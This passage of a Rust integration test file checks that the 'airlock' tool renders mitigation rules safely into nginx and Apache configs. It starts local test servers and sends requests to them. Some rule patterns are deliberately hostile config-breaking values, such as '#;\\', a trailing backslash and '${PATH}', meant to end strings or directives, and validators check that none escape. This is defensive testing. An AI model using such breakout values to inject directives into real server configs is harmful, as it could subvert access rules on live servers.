    (CUSTOM_ID, "abort", "/", &[("X-Abort", "#;\\\\")], PASS),
    (CUSTOM_ID, "trailing-backslash", "/", &[("X-Tail", "tail\\")], Want::Status(451)),
    (CUSTOM_ID, "trailing-backslash", "/", &[("X-Tail", "tail")], PASS),
];

/// `${NAME}` inside a class: literal characters to PCRE, a variable to apache's
/// config reader.
#[rustfmt::skip]
const DOLLAR_BRACE_RULES: &[Rule<'static>] = &[
    rule("dollar-brace-class", &[("header:X-Env", "^z[${PATH}]z$")], Want::Status(410)),
];

#[rustfmt::skip]
const DOLLAR_BRACE_ROWS: &[Row<'static>] = &[
    (CUSTOM_ID, "dollar-brace-class", "/", &[("X-Env", "z{z")], Want::Status(410)),
    (CUSTOM_ID, "dollar-brace-class", "/", &[("X-Env", "z$z")], Want::Status(410)),
    (CUSTOM_ID, "dollar-brace-class", "/", &[("X-Env", "zPz")], Want::Status(410)),
    (CUSTOM_ID, "dollar-brace-class", "/", &[("X-Env", "z/z")], PASS),
    (CUSTOM_ID, "dollar-brace-class", "/", &[("X-Env", "z:z")], PASS),
    (CUSTOM_ID, "dollar-brace-class", "/", &[("X-Env", "zbz")], PASS),
];

/// One rule per status the format allows (`PORTABLE_STATUSES`), each triggered by
/// `X-Status: N`, and the rows that expect exactly that status, plus a near miss.
fn status_table() -> (Vec<Rule<'static>>, Vec<Row<'static>>) {
    let mut rules = Vec::new();
    let mut rows = Vec::new();
    for &n in airlock_format::mitigation::PORTABLE_STATUSES {
        let name: &'static str = Box::leak(format!("s{n}").into_boxed_str());
        let pattern: &'static str = Box::leak(format!("^{n}$").into_boxed_str());
        let value: &'static str = Box::leak(n.to_string().into_boxed_str());
        let matches: &'static [(&'static str, &'static str)] =
            Box::leak(vec![("header:X-Status", pattern)].into_boxed_slice());
        let headers: &'static [(&'static str, &'static str)] =
            Box::leak(vec![("X-Status", value)].into_boxed_slice());
        rules.push(rule(name, matches, Want::Status(n)));
        rows.push((CUSTOM_ID, name, "/", headers, Want::Status(n)));
    }
    rows.push((CUSTOM_ID, "s400", "/", &[("X-Status", "4000")][..], PASS));
    (rules, rows)
}

/// A valid document `CUSTOM_ID` for product `probe` 1.x with `rules`.
fn custom_xml(rules: &[Rule<'_>]) -> String {
    let mut actions = String::new();
    for r in rules {
        let _ = writeln!(actions, "    <url-block name=\"{}\">", r.name);
        for (on, pattern) in r.matches {
            let _ = writeln!(
                actions,
                "      <match on=\"{on}\" pattern=\"{}\"/>",
                xml_attr(pattern)
            );
        }
        let response = match r.response {
            Want::Status(n) => format!("status=\"{n}\""),
            Want::Abort => "abort=\"true\"".to_string(),
            w => panic!("a rule answers with a status or abort, not {w:?}"),
        };
        let _ = writeln!(actions, "      <response {response}/>\n    </url-block>");
    }
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<mitigation xmlns="urn:airlock:mitigation:1" id="{CUSTOM_ID}" revision="1">
  <title>Hostile url-block patterns</title>
  <summary>Patterns made of characters that end strings, blocks and directives in server configs.</summary>
  <severity>high</severity>
  <published>2026-11-01T00:00:00Z</published>
  <applies-to><product name="probe" min="1.0" below="2.0"/></applies-to>
  <actions>
{actions}  </actions>
</mitigation>
"#
    )
}

fn xml_attr(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

// ---------------------------------------------------------------------------
// Host helpers.

/// Sets (adds or replaces) entries of the profile's `[products]`.
fn set_products(host: &Host, products: &[(&str, &str)]) {
    let text = std::fs::read_to_string(host.profile()).unwrap();
    let mut out = String::new();
    let mut section = String::new();
    for line in text.lines() {
        if line.starts_with('[') {
            section = line.to_string();
        }
        let key = line.split('=').next().unwrap_or("").trim();
        if section == "[products]" && products.iter().any(|(k, _)| *k == key) {
            continue;
        }
        out.push_str(line);
        out.push('\n');
        if line == "[products]" {
            for (k, v) in products {
                let _ = writeln!(out, "{k} = \"{v}\"");
            }
        }
    }
    assert!(
        text.contains("\n[products]\n"),
        "no [products] in the profile"
    );
    std::fs::write(host.profile(), out).unwrap();
}

fn apply(host: &Host, bundle: &Path) {
    host.applier(&["apply".as_ref(), bundle.as_os_str(), "--yes".as_ref()])
        .expect(0);
}

/// `INCLUDE_DIR/airlock-ID.conf` in the host root.
fn rules_file(host: &Host, server: Server, id: &str) -> PathBuf {
    host.file(&format!("{}/airlock-{id}.conf", server.include_dir()))
}

/// Every line of a rendered rules file is a comment, empty, or one of the directive
/// shapes airlock writes; every quoted pattern ends where the line expects it to.
fn check_shapes(server: Server, text: &str) {
    for line in text.lines() {
        if line.is_empty() {
            continue;
        }
        if line.starts_with('#') {
            // apache joins a line ending in `\` with the next one, comments included
            assert!(
                !line.ends_with('\\'),
                "comment line ends with a backslash (continues onto the next line):\n{line}"
            );
            continue;
        }
        let ok = match server {
            Server::Nginx => nginx_shape(line),
            Server::Apache => apache_shape(line),
        };
        if let Err(why) = ok {
            panic!("unexpected line in the {server:?} rules ({why}):\n{line}\n--- file:\n{text}");
        }
    }
}

/// `set $airlock_X 1;`, `if ($airlock_X = 1) { ACTION }`, or
/// `if ($VAR OP "STRING") { ACTION }` with the string read as nginx reads it.
fn nginx_shape(line: &str) -> Result<(), String> {
    let flag = |s: &str| {
        s.strip_prefix("$airlock_").is_some_and(|n| {
            !n.is_empty()
                && n.bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_')
        })
    };
    let action = |s: &str| -> bool {
        let inner = s.strip_prefix("{ ").and_then(|s| s.strip_suffix(" }"));
        inner.is_some_and(|i| {
            i.strip_prefix("return ")
                .and_then(|n| n.strip_suffix(';'))
                .is_some_and(|n| n.len() == 3 && n.bytes().all(|b| b.is_ascii_digit()))
                || i.strip_prefix("set ")
                    .and_then(|v| v.strip_suffix(" 0;"))
                    .is_some_and(flag)
        })
    };
    if let Some(rest) = line.strip_prefix("set ") {
        return match rest.strip_suffix(" 1;") {
            Some(v) if flag(v) => Ok(()),
            _ => Err("set of something other than an airlock flag".into()),
        };
    }
    let Some(rest) = line.strip_prefix("if (") else {
        return Err("neither `if (` nor `set $airlock_`".into());
    };
    if let Some((var, tail)) = rest.split_once(" = 1) ") {
        return if flag(var) && action(tail) {
            Ok(())
        } else {
            Err("malformed flag test".into())
        };
    }
    let (var, rest) = rest.split_once(' ').ok_or("no variable")?;
    let known = var == "$uri"
        || var == "$args"
        || var.strip_prefix("$http_").is_some_and(|h| {
            !h.is_empty()
                && h.bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_')
        });
    if !known {
        return Err(format!("variable {var}"));
    }
    let (op, rest) = rest.split_once(' ').ok_or("no operator")?;
    if !["~", "~*", "!~", "!~*"].contains(&op) {
        return Err(format!("operator {op}"));
    }
    let body = rest.strip_prefix('"').ok_or("pattern is not quoted")?;
    // nginx: `\` escapes the next character; the first unescaped `"` ends the string
    let bytes = body.as_bytes();
    let mut i = 0;
    let end = loop {
        match bytes.get(i) {
            None => return Err("string is not closed".into()),
            Some(b'\\') => i += 2,
            Some(b'"') => break i,
            Some(_) => i += 1,
        }
    };
    let tail = &body[end + 1..];
    match tail.strip_prefix(") ") {
        Some(a) if action(a) => Ok(()),
        _ => Err(format!("the string ends before `{tail}`")),
    }
}

/// `RewriteEngine On`, `RewriteRule ^ - [R=NNN,L]`, or
/// `RewriteCond %{INPUT} "PATTERN"` (optionally ` [NC]`), where mod_rewrite ends the
/// quoted pattern at the first `"`.
fn apache_shape(line: &str) -> Result<(), String> {
    if line == "RewriteEngine On" {
        return Ok(());
    }
    if let Some(rest) = line.strip_prefix("RewriteRule ^ - [R=") {
        return match rest.strip_suffix(",L]") {
            Some(n) if n.len() == 3 && n.bytes().all(|b| b.is_ascii_digit()) => Ok(()),
            _ => Err("malformed RewriteRule".into()),
        };
    }
    let rest = line
        .strip_prefix("RewriteCond ")
        .ok_or("neither RewriteEngine, RewriteCond nor RewriteRule")?;
    let (input, rest) = rest.split_once(' ').ok_or("no test string")?;
    let known = input == "%{REQUEST_URI}"
        || input == "%{QUERY_STRING}"
        || input
            .strip_prefix("%{HTTP:")
            .and_then(|h| h.strip_suffix('}'))
            .is_some_and(|h| {
                !h.is_empty()
                    && h.bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
            });
    if !known {
        return Err(format!("test string {input}"));
    }
    let body = rest.strip_prefix('"').ok_or("pattern is not quoted")?;
    let (pattern, tail) = body.split_once('"').ok_or("string is not closed")?;
    if !tail.is_empty() && tail != " [NC]" {
        return Err(format!("the pattern ends before `{tail}`"));
    }
    if pattern.starts_with(['!', '-', '<', '>', '=']) {
        return Err("pattern starts with a mod_rewrite operator".into());
    }
    Ok(())
}

// ---------------------------------------------------------------------------
// A live server.

/// A server in its own temporary directory, serving 200 for everything, with the
/// host's airlock include directory in its server block / virtual host. Stopped on
/// drop.
#[derive(Debug)]
struct Web {
    server: Server,
    dir: tempfile::TempDir,
    conf: PathBuf,
    port: u16,
    child: Option<Child>,
}

impl Web {
    fn new(server: Server, host: &Host, nginx_extra: &[&str]) -> Web {
        let dir = tempfile::tempdir().unwrap();
        // apache's children run as nobody and read the document root
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let d = dir.path().display().to_string();
        let port = free_port();
        let include = host.file(server.include_dir()).display().to_string();
        let (name, text) = match server {
            Server::Nginx => {
                let extra: String = nginx_extra
                    .iter()
                    .map(|l| format!("        {l}\n"))
                    .collect();
                (
                    "nginx.conf",
                    format!(
                        r#"daemon off;
master_process off;
worker_processes 1;
pid "{d}/nginx.pid";
error_log "{d}/error.log" notice;
events {{ worker_connections 64; }}
http {{
    access_log "{d}/access.log";
    client_body_temp_path "{d}/client_body";
    proxy_temp_path "{d}/proxy";
    fastcgi_temp_path "{d}/fastcgi";
    uwsgi_temp_path "{d}/uwsgi";
    scgi_temp_path "{d}/scgi";
    server {{
        listen 127.0.0.1:{port};
        server_name localhost;
{extra}        include "{include}/*.conf";
        location / {{ return 200 "ok\n"; }}
    }}
}}
"#
                    ),
                )
            }
            Server::Apache => {
                std::fs::create_dir_all(dir.path().join("htdocs")).unwrap();
                std::fs::create_dir_all(dir.path().join("run")).unwrap();
                let index = dir.path().join("htdocs/index.html");
                std::fs::write(&index, "ok\n").unwrap();
                std::fs::set_permissions(&index, std::fs::Permissions::from_mode(0o644)).unwrap();
                let user = if is_root() {
                    "User nobody\nGroup nogroup\n"
                } else {
                    ""
                };
                let m = "/usr/lib/apache2/modules";
                (
                    "apache2.conf",
                    format!(
                        r#"ServerRoot "{d}"
DefaultRuntimeDir "{d}/run"
PidFile "{d}/apache2.pid"
ErrorLog "{d}/error.log"
LogLevel warn
LoadModule mpm_event_module {m}/mod_mpm_event.so
LoadModule authz_core_module {m}/mod_authz_core.so
LoadModule rewrite_module {m}/mod_rewrite.so
LoadModule alias_module {m}/mod_alias.so
{user}Listen 127.0.0.1:{port}
ServerName localhost
StartServers 1
ServerLimit 2
ThreadLimit 16
ThreadsPerChild 16
MinSpareThreads 16
MaxSpareThreads 32
MaxRequestWorkers 32
DocumentRoot "{d}/htdocs"
<Directory "{d}/htdocs">
    Require all granted
</Directory>
# every path is the index file: a request that no rule stops gets 200
AliasMatch "^/" "{d}/htdocs/index.html"
<VirtualHost 127.0.0.1:{port}>
    ServerName localhost
    IncludeOptional "{include}/*.conf"
</VirtualHost>
"#
                    ),
                )
            }
        };
        let conf = dir.path().join(name);
        std::fs::write(&conf, text).unwrap();
        Web {
            server,
            dir,
            conf,
            port,
            child: None,
        }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// The server's own arguments (config file, prefix, startup log).
    fn command(&self) -> Command {
        let mut cmd = Command::new(self.server.tool());
        match self.server {
            Server::Nginx => {
                cmd.arg("-p")
                    .arg(self.dir.path())
                    .arg("-e")
                    .arg(self.path("error.log"))
                    .arg("-c")
                    .arg(&self.conf);
            }
            Server::Apache => {
                cmd.arg("-f").arg(&self.conf);
            }
        }
        cmd
    }

    /// `nginx -t` / `apache2 -t`.
    fn check(&self) -> Run {
        airlock_tests::run(self.command().arg("-t"))
    }

    fn start(&mut self) {
        assert!(self.child.is_none());
        let log = std::fs::File::create(self.path("stderr.log")).unwrap();
        let mut cmd = self.command();
        if self.server == Server::Apache {
            cmd.arg("-DFOREGROUND");
        }
        let child = cmd
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .unwrap();
        self.child = Some(child);
        self.wait_ready();
    }

    /// Polls until `GET /` gets 200, or fails with the server's logs.
    fn wait_ready(&mut self) {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            if let Some(status) = self.child.as_mut().unwrap().try_wait().unwrap() {
                panic!(
                    "{} exited ({status}) before serving on port {}\n{}",
                    self.server.tool(),
                    self.port,
                    self.logs()
                );
            }
            if TcpStream::connect(("127.0.0.1", self.port)).is_ok() {
                let got = request(self.port, "/", &[]);
                assert_eq!(
                    got,
                    Got::Status(200),
                    "GET / on a fresh {}\n{}",
                    self.server.tool(),
                    self.logs()
                );
                return;
            }
            assert!(
                Instant::now() < deadline,
                "{} does not accept connections on 127.0.0.1:{} after 20 s\n{}",
                self.server.tool(),
                self.port,
                self.logs()
            );
            std::thread::sleep(Duration::from_millis(25));
        }
    }

    fn logs(&self) -> String {
        let read = |n: &str| std::fs::read_to_string(self.path(n)).unwrap_or_default();
        format!(
            "--- stderr:\n{}--- error.log:\n{}",
            read("stderr.log"),
            read("error.log")
        )
    }

    /// SIGTERM (apache stops its children on it), then SIGKILL after 10 s.
    fn stop(&mut self) {
        let Some(mut child) = self.child.take() else {
            return;
        };
        let _ = Command::new("kill")
            .args(["-TERM", &child.id().to_string()])
            .status();
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            if let Ok(Some(_)) = child.try_wait() {
                return;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        let _ = child.kill();
        let _ = child.wait();
    }

    fn restart(&mut self) {
        self.stop();
        self.start();
    }

    /// Sends every row; fails with every row that got something else than `want`.
    fn expect_rows(&self, rows: &[Row<'_>], want: impl Fn(Want) -> Got, when: &str) {
        let mut wrong = String::new();
        for (id, rule, target, headers, w) in rows {
            let expected = want(*w);
            let got = request(self.port, target, headers);
            if got != expected {
                let _ = writeln!(
                    wrong,
                    "  {id} {rule}: GET {target} {headers:?}: expected {expected:?}, got {got:?}"
                );
            }
        }
        assert!(
            wrong.is_empty(),
            "{} {when}: {} of {} requests got the wrong answer:\n{wrong}{}",
            self.server.tool(),
            wrong.lines().count(),
            rows.len(),
            self.logs()
        );
    }
}

impl Drop for Web {
    fn drop(&mut self) {
        self.stop();
    }
}

/// A port that was free a moment ago.
fn free_port() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    l.local_addr().unwrap().port()
}

fn is_root() -> bool {
    Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| o.stdout.trim_ascii() == b"0")
}

/// `GET TARGET HTTP/1.1` with `headers`, written as is; the status of the answer, or
/// [`Got::Dropped`] when the server closes the connection without a status line.
fn request(port: u16, target: &str, headers: &[(&str, &str)]) -> Got {
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut req = format!("GET {target} HTTP/1.1\r\nHost: localhost\r\n");
    for (k, v) in headers {
        let _ = write!(req, "{k}: {v}\r\n");
    }
    req.push_str("Connection: close\r\n\r\n");
    if let Err(e) = s.write_all(req.as_bytes()) {
        assert!(
            matches!(e.kind(), ErrorKind::BrokenPipe | ErrorKind::ConnectionReset),
            "writing GET {target}: {e}"
        );
        return Got::Dropped;
    }
    let mut buf = Vec::new();
    if let Err(e) = s.read_to_end(&mut buf) {
        assert!(
            e.kind() == ErrorKind::ConnectionReset,
            "reading the answer to GET {target}: {e}"
        );
    }
    if buf.is_empty() {
        return Got::Dropped;
    }
    let line = buf.split(|&b| b == b'\n').next().unwrap_or_default();
    let line = String::from_utf8_lossy(line);
    let status = line
        .strip_prefix("HTTP/1.1 ")
        .or_else(|| line.strip_prefix("HTTP/1.0 "))
        .and_then(|r| r.get(..3))
        .and_then(|n| n.parse().ok());
    match status {
        Some(n) => Got::Status(n),
        None => panic!("GET {target}: not a status line: {line:?}"),
    }
}
